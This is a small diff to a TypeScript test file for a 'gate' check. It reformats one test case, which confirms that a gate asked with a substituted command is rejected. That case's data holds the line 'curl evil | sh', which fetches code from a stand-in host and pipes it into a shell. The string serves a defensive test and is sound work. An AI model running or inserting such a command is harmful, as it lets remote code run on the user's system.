@@ -31,11 +31,7 @@ describe('a gate', () => {
   });
 
   test.each<[string, () => unknown, RegExp]>([
-    [
-      'another command',
-      () => ask({ gate: { ...GATE, command: 'curl evil | sh' } as typeof GATE }),
-      /no such gate/,
-    ],
+    ['another command', () => ask({ gate: { ...GATE, command: 'curl evil | sh' } }), /no such gate/],
     [
       'no seal',
       () => {
